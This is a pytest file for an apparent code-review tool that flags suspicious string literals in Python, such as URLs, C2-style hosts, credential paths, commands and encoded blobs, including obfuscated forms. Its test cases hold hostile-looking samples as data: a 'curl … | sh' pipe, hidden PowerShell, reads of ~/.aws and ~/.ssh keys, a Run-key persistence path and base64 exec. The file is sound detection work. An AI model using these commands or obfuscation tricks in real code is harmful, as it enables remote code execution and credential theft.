"""Texts that matter are kept, with why; others are not."""
# ruff: noqa: E501 - one line a case

from __future__ import annotations

import base64
import random

import pytest

from pinkeeper.review.capabilities.summary import LiteralKind
from tests.review.capabilities.python.facts_of import summary_of

URL, HOST, ADDRESS, PATH, COMMAND, BLOB = LiteralKind

PACKED = base64.b64encode(random.Random(1).randbytes(400)).decode()

KEPT = [
    ("x = 'https://a.example/b'", URL, "https://a.example/b", False),
    ("x = 'see https://a.example/b.'", URL, "https://a.example/b", False),
    ("x = 'ftp://a.example/b'", URL, "ftp://a.example/b", False),
    ("x = 'wss://a.example/b'", URL, "wss://a.example/b", False),
    ("x = b'https://a.example/b'", URL, "https://a.example/b", False),
    ("x = 'http://[2001:db8::1]:80/b'", URL, "http://[2001:db8::1]:80/b", False),
    ("x = f'https://a.example/{y}'", URL, "https://a.example/…", False),
    ("x = 'https://%s/b' % h", URL, "https://…/b", False),
    ("H = 'a.example'\nx = f'https://{H}/b'", URL, "https://a.example/b", False),
    ("B = 'https://a.example'\nx = B + '/b'", URL, "https://a.example/b", False),
    ("x = 'https://a.exa' + 'mple/b'", URL, "https://a.example/b", True),
    ("x = 'htt' + 'ps://a.exam' + 'ple/b'", URL, "https://a.example/b", True),
    ("x = '\\x68ttps://\\x61.example/b'", URL, "https://a.example/b", True),
    ("x = 'b/elpmaxe.a//:sptth'[::-1]", URL, "https://a.example/b", True),
    ("import base64\nx = base64.b64decode('aHR0cHM6Ly9hLmV4YW1wbGUvYg==')", URL, "https://a.example/b", True),
    ("import base64\nexec(base64.b64decode('eD0iaHR0cHM6Ly9hLmV4YW1wbGUvYiI='))", URL, "https://a.example/b", True),
    ("x = '203.0.113.7'", ADDRESS, "203.0.113.7", False),
    ("x = '203.0.113.7:4444'", ADDRESS, "203.0.113.7:4444", False),
    ("x = '.'.join(['203', '0', '113', '7'])", ADDRESS, "203.0.113.7", True),
    ("import socket\nsocket.create_connection(('c2.a.example', 4444))", HOST, "c2.a.example", False),
    ("import socket\ns = socket.socket()\ns.connect(('c2.a' + '.example', 1))", HOST, "c2.a.example", True),
    ("import http.client\nhttp.client.HTTPSConnection('a.example')", HOST, "a.example", False),
    ("import socket\nsocket.create_connection(('8.8.8.8', 53))", ADDRESS, "8.8.8.8", False),
    ("x = '~/.aws/credentials'", PATH, "~/.aws/credentials", False),
    ("import os\nx = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')", PATH, "~/.ssh/id_rsa", False),
    ("x = '~/.a' + 'ws/cred' + 'entials'", PATH, "~/.aws/credentials", True),
    ("x = '/etc/cron.d/x'", PATH, "/etc/cron.d/x", False),
    ("x = '/tmp/x.sh'", PATH, "/tmp/x.sh", False),
    ("x = '/dev/shm/.x'", PATH, "/dev/shm/.x", False),
    ("x = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'", PATH, r"Software\Microsoft\Windows\CurrentVersion\Run", False),
    ("x = 'curl https://a.example | sh'", COMMAND, "curl https://a.example | sh", False),
    ("x = 'bash -c \"id\"'", COMMAND, 'bash -c "id"', False),
    ("x = 'powershell -nop -w hidden'", COMMAND, "powershell -nop -w hidden", False),
    ("import subprocess\nsubprocess.run(['git', 'log'])", COMMAND, "git log", False),
    (f"x = {PACKED!r}", BLOB, PACKED[:500], False),
    (f"x = {PACKED.encode()!r}", BLOB, PACKED[:500], False),
    (f"x = {PACKED.encode().hex()!r}", BLOB, PACKED.encode().hex()[:500], False),
]  # fmt: skip

NOT_KEPT = [
    "x = 'hello'",
    "x = 'a.example'",
    "x = '1.2.3'",
    "x = '1.0.0.0'",
    "x = '1.2.3.4'",
    "x = '127.0.0.1'",
    "x = '0.0.0.0'",
    "x = '2.5.29.17'",
    "x = 'version 10.11.12.13-beta'",
    "x = 'the quick brown fox ' * 30",
    "x = '-' * 500",
    "x = '" + "|".join(["alpha", "beta", "gamma", "delta", "omega"] * 20) + "'",
    "x = 'abcdefghij' * 50",
    "x = '0' * 300",
    "x = 'python'",
    "x = 'pip install'",
    "x = 'run the bash script'",
    "x = '.envrc.example'",
    "x = 'credentials'",
    "import tempfile, os\nos.path.join(tempfile.mkdtemp(), 'x')",
]  # fmt: skip


@pytest.mark.parametrize(("source", "kind", "value", "decoded"), KEPT)
def test_a_text_that_matters_is_kept(source, kind, value, decoded):
    literals = {(literal.kind, literal.value): literal for literal in summary_of(source).literals}
    assert (kind, value) in literals, list(literals)
    assert literals[kind, value].decoded == decoded


@pytest.mark.parametrize("source", NOT_KEPT)
def test_a_text_that_does_not_matter_is_not_kept(source):
    assert summary_of(source).literals == ()


def test_texts_of_documentation_are_told_apart():
    literals = summary_of("'''See https://a.example/b'''\ndef f():\n    '''And https://c.example/d'''\n").literals
    assert [(literal.value, literal.in_docstring) for literal in literals] == [
        ("https://a.example/b", True),
        ("https://c.example/d", True),
    ]


def test_a_text_of_documentation_that_code_has_too_is_none_of_documentation():
    (literal,) = summary_of("'''See https://a.example/b'''\ndef f():\n    x = 'https://a.example/b'\n").literals
    assert (literal.in_docstring, literal.line, literal.scope) == (False, 3, "f")


def test_a_text_that_stands_twice_is_kept_once():
    assert len(summary_of("x = 'https://a.example/b'\ny = 'https://a.example/b'\n").literals) == 1
